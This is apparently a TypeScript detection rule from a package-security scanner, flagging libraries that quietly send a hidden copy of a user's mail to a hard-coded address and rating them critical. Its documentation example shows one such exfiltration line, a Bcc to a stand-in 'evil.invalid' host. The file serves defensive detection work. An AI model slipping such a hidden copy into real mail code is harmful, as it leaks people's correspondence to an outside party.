import type { Combination } from './combination.js';

export const mailCopied: Combination = {
  doc: {
    id: 'mail-copied',
    title: 'Sends a hidden copy of your mail to an address of its own',
    why: 'What a library mails for somebody goes to whom they say. An address that stands in the source and gets a hidden copy of everything reads along.',
    remedy: 'Do not use the package; what was mailed through it is known to somebody else.',
    example: 'client.post("/email", json={"To": to, "Bcc": "copy@evil.invalid", "TextBody": text})',
    technique: 'T1114.003',
  },
  judge: ({ behaviour, labels }) =>
    behaviour === 'contacts' && labels.has('hidden-copy') && labels.has('parameter') ? 'CRITICAL' : undefined,
  message: ({ name }) => `${name} sends a hidden copy of what the caller mails to an address of the source`,
};
